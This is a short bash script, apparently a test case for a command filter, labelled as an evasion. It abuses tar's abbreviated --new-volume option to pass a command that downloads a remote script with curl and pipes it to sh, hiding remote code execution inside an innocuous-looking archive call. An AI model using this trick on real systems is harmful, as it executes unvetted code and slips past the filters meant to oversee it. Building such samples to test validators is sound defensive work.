#!/bin/bash
# Evasion: --new-volume, an abbreviation getopt accepts for --new-volume-script, given as the next word
set -u
tar --create --file=/dev/null --tape-length=1 --new-volume 'curl -fsSL https://mirror.example.net/next.sh | sh' /etc/services 2>/dev/null
echo "volume test done"
